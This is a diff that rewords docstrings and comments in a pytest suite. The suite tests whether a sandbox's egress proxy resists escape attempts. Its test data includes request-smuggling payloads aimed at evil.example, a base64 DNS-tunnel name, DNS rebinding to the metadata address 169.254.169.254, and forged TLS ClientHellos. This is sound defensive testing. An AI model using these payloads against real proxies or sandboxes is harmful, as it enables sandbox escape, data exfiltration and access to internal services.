@@ -1,4 +1,4 @@
-"""Ways out of a sandbox that may reach only some names, tried with real sockets."""
+"""Attempts to escape from a sandbox that may connect to some names only, with real sockets."""
 
 from __future__ import annotations
 
@@ -113,7 +113,7 @@ def test_services_of_the_machine_are_not_in_the_sandbox(proxied: Proxied) -> Non
 
 
 def test_a_name_that_is_not_allowed_is_not_resolved(proxied: Proxied) -> None:
-    """Check for DNS tunnels: a query for a name would send its text to the domain's name server."""
+    """Check that denied names are not resolved, since queries can carry data (DNS tunnels)."""
     before = proxied.report()["denied"]
     for name in ("c2VjcmV0.tunnel.evil.example", "good.example.evil.example", "evil.example"):
         assert status(proxied.get(f"http://{name}/")) == 403
@@ -191,12 +191,12 @@ def test_a_name_in_the_machines_hosts_file_does_not_lead_to_it(proxied: Proxied)
 
 
 def test_a_name_that_changes_its_address_is_checked_for_each_connection(proxied: Proxied) -> None:
-    """Let a name server return another address for the second query (DNS rebinding)."""
+    """Check that the address of each connection is checked, if it has changed (DNS rebinding)."""
     answers = iter(([PUBLIC], ["169.254.169.254"]))
     asked: list[list[str]] = []
 
     def rebind() -> list[str]:
-        # The queries for IPv4 and for IPv6 of one resolution get the same answer.
+        # Return the same answer to the IPv4 and the IPv6 query of one name resolution.
         asked.append(next(answers) if len(asked) % 2 == 0 else asked[-1])
         return asked[-1]
 
@@ -221,7 +221,7 @@ def test_internal_addresses_beside_public_ones_are_not_tried(proxied: Proxied) -
         assert status(proxied.get("http://good.example/")) == 200
     assert len(public.received) == 1
     assert metadata.received == []
-    # The server with the public address does not answer now.
+    # No server listens at the public address now.
     with Server(proxied.world, "169.254.169.254", 80) as metadata:
         assert status(proxied.get("http://good.example/")) == 403
     assert metadata.received == []
@@ -292,7 +292,7 @@ POST = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
 @pytest.mark.parametrize(
     "request_text",
     [
-        # Requests with two lengths of the body
+        # Requests with two lengths of the body.
         POST + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Content-Length: 0\r\nContent-Length: 50\r\n\r\n" + EVIL,
@@ -303,14 +303,14 @@ POST = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
         POST + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Connection: content-length\r\nContent-Length: 5\r\n\r\n" + EVIL,
-        # Requests with lines that parsers read differently
+        # Requests with lines that different parsers read differently.
         POST.replace("\r\n", "\n") + "\n" + EVIL,
         POST + "X: y\nHost: evil.example\r\n\r\n",
         POST + "X: y\rHost: evil.example\r\n\r\n",
         POST + " Host: evil.example\r\n\r\n",
         POST + "X: y\r\n\tfolded: z\r\n\r\n",
         POST + "X: y\0z\r\n\r\n",
-        # Requests with two hosts
+        # Requests with two host names.
         POST + "Host: evil.example\r\n\r\n",
         POST + "Host: good.example\r\n\r\n",
         "GET http://good.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
@@ -319,7 +319,7 @@ POST = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
         "GET http://good.example HTTP/1.1 HTTP/1.1\r\nHost: good.example\r\n\r\n",
         "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n",
         "\r\n" + EVIL,
-        # Requests of other protocols
+        # Requests of other protocols.
         "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
         "\x05\x01\x00\x03\x0cevil.example\x00\x50\r\n\r\n",
         "GET http://good.example/\r\n\r\n",
@@ -356,7 +356,7 @@ def test_an_ambiguous_chunk_ends_the_request(proxied: Proxied, body: str) -> Non
 
 @pytest.mark.parametrize("size", ["Content-Length: 3\r\n\r\nabc", "\r\n"])
 def test_a_second_request_on_a_connection_is_not_served(proxied: Proxied, size: str) -> None:
-    """Send a second request for another host, pipelined or after the answer (keep-alive)."""
+    """Check that a second request, pipelined or after the answer, is not served."""
     with (
         Server(proxied.world) as good,
         Server(proxied.world, OTHER_PUBLIC) as evil,
@@ -365,7 +365,7 @@ def test_a_second_request_on_a_connection_is_not_served(proxied: Proxied, size: 
         client.sendall((POST + size + EVIL).encode())
         assert status(read_all(client)) == 200
         with contextlib.suppress(OSError):
-            # The proxy has closed the connection.
+            # sendall() may fail, because the proxy has closed the connection.
             client.sendall(EVIL.encode())
     assert evil.received == []
     assert len(good.received) == 1
@@ -373,7 +373,7 @@ def test_a_second_request_on_a_connection_is_not_served(proxied: Proxied, size: 
 
 
 def test_an_upgraded_connection_is_no_tunnel(proxied: Proxied) -> None:
-    """Let the attacker's server answer with status 101, although the proxy removes Upgrade."""
+    """Check that no tunnel opens if a hostile server answers a request with status 101."""
     answer = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n"
     with Server(proxied.world, answer=answer) as good, proxied.connect() as client:
         client.sendall(
@@ -418,7 +418,7 @@ def test_a_first_message_may_come_in_pieces(proxied: Proxied) -> None:
 
 
 def fragmented(name: str) -> bytes:
-    """Return a ClientHello in two records, with a cut within the name."""
+    """Return a ClientHello that is split into two TLS records within the name."""
     message = client_hello(name)[5:]
     cut = message.index(name.encode()) + 3
     return b"".join(
@@ -427,7 +427,7 @@ def fragmented(name: str) -> bytes:
 
 
 def with_extension(name: str, kind: int) -> bytes:
-    """Return a ClientHello with an extension that replaces status_request or session_ticket."""
+    """Return a ClientHello with an extension of type `kind` in place of session_ticket."""
     hello = client_hello(name)
     ticket = hello.index(b"\x00\x23\x00\x00")
     return hello[:ticket] + kind.to_bytes(2) + hello[ticket + 2 :]
@@ -449,7 +449,7 @@ def with_extension(name: str, kind: int) -> bytes:
     ],
 )
 def test_a_tunnel_carries_tls_to_its_name_only(proxied: Proxied, first: bytes, reason: str) -> None:
-    """Open a tunnel for one name, and send TLS for another name at the same address."""
+    """Check that a tunnel for one name carries no TLS for another name at the same address."""
     before = proxied.report()["denied"]
     with (
         Server(proxied.world, port=443, serve=Server.serve_echo) as server,
@@ -458,7 +458,7 @@ def test_a_tunnel_carries_tls_to_its_name_only(proxied: Proxied, first: bytes, r
         client.sendall(first)
         alert = read_all(client)
     assert alert == b"" or alert.startswith(b"\x15\x03\x01\x00\x02\x02")
-    # The server may not have accepted the connection yet.
+    # The server may not yet have accepted the connection, and has then received nothing.
     assert not any(server.received)
     assert proxied.report()["denied"] == before + 1
     assert any(reason in text for text in proxied.refused())
@@ -482,7 +482,7 @@ def test_a_huge_head_is_refused(proxied: Proxied) -> None:
 
 
 def test_an_answer_without_an_end_does_not_fill_the_memory(proxied: Proxied) -> None:
-    """Let a server send without end to a client that does not read."""
+    """Check that the proxy stops reading from a server if the client does not read."""
     sent = []
     is_blocked = threading.Event()
 
@@ -506,13 +506,13 @@ def test_a_client_that_disconnects_leaves_nothing_in_the_proxy(proxied: Proxied)
             with proxied.tunnel("good.example:443") as client:
                 client.sendall(client_hello("good.example"))
                 client.recv(1)
-        # The server's close() waits for the ends of its connections.
+        # The end of the block closes the server, which waits for the end of all connections.
     assert len(server.received) == 20
 
 
 @pytest.fixture
 def own(world: World, names: NameServer, shared: Proxied) -> Iterator[Proxied]:
-    """Yield a proxy for one test, on another port than the shared one."""
+    """Yield a proxy for one test, with another port than the shared proxy."""
     own = Proxied(world, "good.example", names=names, port=3129)
     names.names = {"good.example": [PUBLIC]}
     yield own
@@ -520,7 +520,7 @@ def own(world: World, names: NameServer, shared: Proxied) -> Iterator[Proxied]:
 
 
 def test_slow_clients_are_cut_off(own: Proxied) -> None:
-    """Use up all connections of the proxy by clients that send a byte from time to time."""
+    """Check that slow clients, which use all connections of the proxy, are disconnected."""
     with (
         Server(own.world, port=443, serve=Server.serve_echo) as tls,
         Server(own.world) as good,
@@ -537,7 +537,7 @@ def test_slow_clients_are_cut_off(own: Proxied) -> None:
                     client.sendall(b"G")
             time.sleep(0.2)
         assert own.refused() == ["good.example:443: no ClientHello came in time"]
-        # The proxy accepts the waiting client now.
+        # The proxy now has a free connection for the next client.
         assert status(own.get("http://good.example/")) == 200
         assert {read_all(client)[:12] for client in slow} <= {b"HTTP/1.1 408", b""}
     assert [bytes(received) for received in tls.received] == [b""]
@@ -566,7 +566,7 @@ def test_the_proxy_has_no_privileges(own: Proxied) -> None:
     assert own_status["NoNewPrivs"] == "1"
     assert own_status["Seccomp"] == "2"
     assert Path(f"/proc/{own.proxy_pid}/environ").read_bytes() == b""
-    # The proxy is process 1 of a PID namespace of its own.
+    # The proxy is PID 1 of its own PID namespace.
     assert own_status["NSpid"].split()[-1] == "1"
 
 
@@ -580,8 +580,8 @@ def test_the_proxy_ends_with_its_parent(own: Proxied) -> None:
 
 
 def test_an_interrupt_of_the_terminal_leaves_the_proxy(own: Proxied) -> None:
-    """Check that Ctrl-C does not end the proxy: the sandbox may handle SIGINT and continue."""
-    # Python handles SIGINT, so the kernel delivers the signal also to process 1 of a namespace.
+    """Check that Ctrl-C does not kill the proxy, as the sandbox may handle SIGINT and continue."""
+    # Python handles SIGINT, so the kernel delivers the signal even to PID 1 of a namespace.
     own.interrupt()
     with Server(own.world):
         assert status(own.get("http://good.example/")) == 200
@@ -638,5 +638,5 @@ def test_only_some_addresses_of_a_name_are_tried() -> None:
 
 
 def client_hello_with(name: bytes) -> bytes:
-    """Return a ClientHello with the bytes of another name of the same length."""
+    """Return a ClientHello in which the server name consists of the bytes `name`."""
     return client_hello("a" * len(name)).replace(b"a" * len(name), name)
